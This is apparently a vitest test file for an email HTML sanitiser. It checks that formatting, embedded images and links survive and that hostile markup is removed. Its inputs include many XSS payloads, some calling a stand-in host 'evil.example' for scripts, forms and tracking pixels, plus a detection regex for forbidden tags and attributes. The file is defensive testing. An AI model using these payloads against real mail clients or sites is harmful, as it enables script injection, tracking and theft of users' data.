import { describe, expect, test } from 'vitest'
import { sanitise } from '../../../src/mail/html/sanitise.ts'
import { remoteIn, safeStyle } from '../../../src/mail/html/sanitise-style.ts'

const clean = (html: string) => sanitise(html, (cid) => (cid === 'logo@1' ? '/bilder/0' : null))

describe('the HTML of a mail', () => {
  test('keeps its words, lists, tables and looks', () => {
    const html =
      '<table border="1" cellpadding="2"><tbody><tr><td colspan="2" style="color:red">' +
      '<b>Hej</b> <i>du</i></td></tr></tbody></table><ul><li>ett</li></ul><blockquote>två</blockquote>'
    expect(clean(html)).toEqual({ html, stopped: 0 })
  })

  test('shows the pictures that came with it and no others', () => {
    expect(clean('<img src="cid:logo%401" alt="Logga">').html).toBe(
      '<img alt="Logga" src="/bilder/0" />',
    )
    expect(clean('<img src="cid:annan" alt="x">')).toEqual({ html: '<img alt="x" />', stopped: 0 })
    expect(clean('<img src="/meddelanden/1">').html).toBe('<img />')
    expect(clean('<img src="data:image/png;base64,AAAA">').html).toBe('<img />')
  })

  test('opens its links elsewhere and says nothing of us there', () => {
    expect(clean('<a href="https://a.se/?b=1&amp;c">x</a>').html).toBe(
      '<a href="https://a.se/?b=1&amp;c" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(clean('<a href="mailto:a@b.se" onclick="x()" target="_top">x</a>').html).toBe(
      '<a href="mailto:a@b.se" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test.each([
    'javascript:alert(1)',
    ' java\nscript:alert(1)',
    'jAvAsCrIpT&#58;alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    '//evil.example/x',
    'file:///etc/passwd',
  ])('leads nowhere by %j', (href) => {
    expect(clean(`<a href="${href}">x</a>`).html).not.toMatch(/href="(?!https?:|mailto:|tel:)/)
  })
})

/** Whatever is put in, nothing of this may come out. */
const forbidden =
  /<(?:script|style|iframe|frame|object|embed|form|input|button|select|textarea|svg|math|link|meta|base|template|noscript|video|audio|source|body|html|head)\b|\son\w+\s*=|javascript:|expression\(|url\s*\(|@import|position\s*:|srcset|evil\.example/i

describe('a hostile mail', () => {
  test.each([
    '<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)"/>',
    '<svg/onload=alert(1)><svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=a><button>Skicka</button></form>',
    '<iframe src="https://evil.example"></iframe><object data="//evil.example"></object>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\72 l(//evil.example/x)">x</div>',
    '<div style="width:expression(alert(1));color:red">x</div>',
    '<div style="color:red;/*;*/background-image:url(//evil.example)">x</div>',
    '<style>@import "https://evil.example/x.css"; p { position: fixed }</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<body background="https://evil.example/x.png" onload="alert(1)">x</body>',
    '<table background="//evil.example/x"><tr><td background="http://evil.example">x</td></tr></table>',
    '<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">',
    '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>',
    '<template><script>alert(1)</script></template>',
    '<!--[if mso]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
    '<p title="&quot;><script>alert(1)</script>">x</p><p class="topbar" id="ticket">x</p>',
    '<a href="https://a.se" style="position:absolute;inset:0">x</a><plaintext><script>alert(1)',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src="cid:logo@1" style="position:fixed" onload="x" usemap="#m">',
  ])('comes out harmless: %s', (html) => {
    const out = clean(html).html
    // Words in quotes cannot act; what is left of a tag or an attribute could.
    expect(out.replace(/title="[^"]*"/g, '')).not.toMatch(forbidden)
    expect(out).not.toMatch(/\b(?:class|id)=/)
    expect(clean(out).html).toBe(out.replace(' src="/bilder/0"', ''))
  })

  test.each([
    ['<img src="https://evil.example/a.gif"><img src="//evil.example/b.gif">', 2],
    ['<img srcset="https://evil.example/a 1x, x 2x">', 1],
    ['<body background="http://evil.example/x">', 1],
    ['<p style="background:url( \'https://evil.example\')">x</p>', 1],
    ['<style>@import "x.css"; a{b:url(//evil.example)} c{d:url(cid:1)}</style>', 2],
    ['<link rel=stylesheet href="https://evil.example/x">', 1],
    ['<video poster="https://evil.example"><source src="https://evil.example"></video>', 1],
    ['<a href="https://a.se">bara en länk</a><img src="cid:logo@1">', 0],
  ])('says how much was stopped: %s', (html, stopped) => {
    expect(clean(html).stopped).toBe(stopped)
  })

  test('does not get slow by being deep, long or full of brackets', () => {
    for (const html of [
      '<div>'.repeat(50_000),
      '<'.repeat(300_000),
      `<p style="${'a:'.repeat(100_000)}">x`,
      '<style>'.repeat(20_000),
      `<img src="${' '.repeat(300_000)}cid:">`,
      '<a href="'.repeat(30_000),
      '<b>'.repeat(600_000),
      '<b></i>'.repeat(280_000),
      '<svg>'.repeat(400_000),
      `${'<b>'.repeat(2_900)}${'</i>'.repeat(300_000)}`,
      `<img src="cid:a${' '.repeat(300_000)}b">`,
      `<p style="x:url(${' '.repeat(300_000)}">x`,
      `<style>a{b:url(${' '.repeat(300_000)}`,
      `<style>${'url( '.repeat(100_000)}`,
    ]) {
      expect(clean(html).stopped).toBe(0)
    }
  }, 10_000)
})

test('a long mail whose paragraphs nobody closes is shown to its end', () => {
  const html = `${'<p>Ett stycke<br>'.repeat(2_900)}<p>slut`
  expect(clean(html).html).toContain('slut')
  expect(clean('<b>x</b>'.repeat(20_000) + 'slut').html).toContain('slut')
})

describe('a style', () => {
  test.each([
    ['color:red;Font-Size: 12px', 'color:red;font-size:12px'],
    ['color:rgb(1, 2, 3);background-color:#fff', 'color:rgb(1, 2, 3);background-color:#fff'],
    ["font-family:'Åre Sans', Arial", "font-family:'Åre Sans', Arial"],
    ['margin:0 auto !important', 'margin:0 auto !important'],
    ['position:fixed;z-index:9;opacity:0;color:red', 'color:red'],
    ['color:var(--x);width:calc(1px);height:\\31', ''],
    ['behavior:url(x);-moz-binding:url(x)', ''],
    ['nonsense', ''],
  ])('%j keeps %j', (style, kept) => {
    expect(safeStyle(style)).toBe(kept)
  })

  test('is seen through when it escapes what it fetches', () => {
    expect(remoteIn('background:\\75rl(\\2f/evil.example)')).toBe(1)
    expect(remoteIn('background:url(cid:1)')).toBe(0)
  })
})
